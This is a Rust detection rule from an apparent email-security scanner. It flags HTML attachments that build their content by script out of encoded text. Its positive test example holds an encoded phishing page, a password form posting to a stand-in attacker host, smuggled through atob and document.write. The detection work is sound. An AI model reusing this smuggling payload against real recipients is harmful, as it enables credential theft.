//! The file is put together by script in the reader's browser, out of a text that no scanner takes for a file.

use super::kit::*;

pub(super) const SIGNAL: Signal = Signal {
    name: "attachment-html-smuggling",
    about: "An attached web page or drawing builds its content by script, out of encoded text that filters cannot read.",
    read,
    examples: &[
        hit(
            "a long text decoded and written into the page",
            "From: a@b.example\nContent-Type: text/html; name=\"fax.html\"\nContent-Disposition: attachment\n\n<script>document.write(atob('PGh0bWw+PGJvZHk+PGZvcm0gYWN0aW9uPSJodHRwczovL2V2aWwuZXhhbXBsZS8iPjxpbnB1dCB0eXBlPXBhc3N3b3JkPjwvZm9ybT48L2JvZHk+PC9odG1sPlBHaDBiV3crUEdKdlpIaytQR1p2Y20wZ1lXTjBhVzl1UFNKb2RIUndjem92TDJWMmFXd3VaWGhoYlhCc1pTOGlQanhwYm5CMWRDQjBlWEJsUFhCaGMzTjNiM0prUGp3dlptOXliVDQ4TDJKdlpIaytQQzlvZEcxc1BnPT0='))</script>",
        ),
        miss(
            "a page with a small script",
            "From: a@b.example\nContent-Type: text/html; name=\"minutes.html\"\nContent-Disposition: attachment\n\n<script>window.print()</script>",
        ),
    ],
};

fn read(evidence: &Evidence) -> Reading {
    attachments_told(evidence, |attachment| {
        let count = attachment.contents.html.as_ref()?.obfuscated_scripts;
        (count > 0).then(|| format!("{} decodes a long text by script", file(&attachment.name)))
    })
}
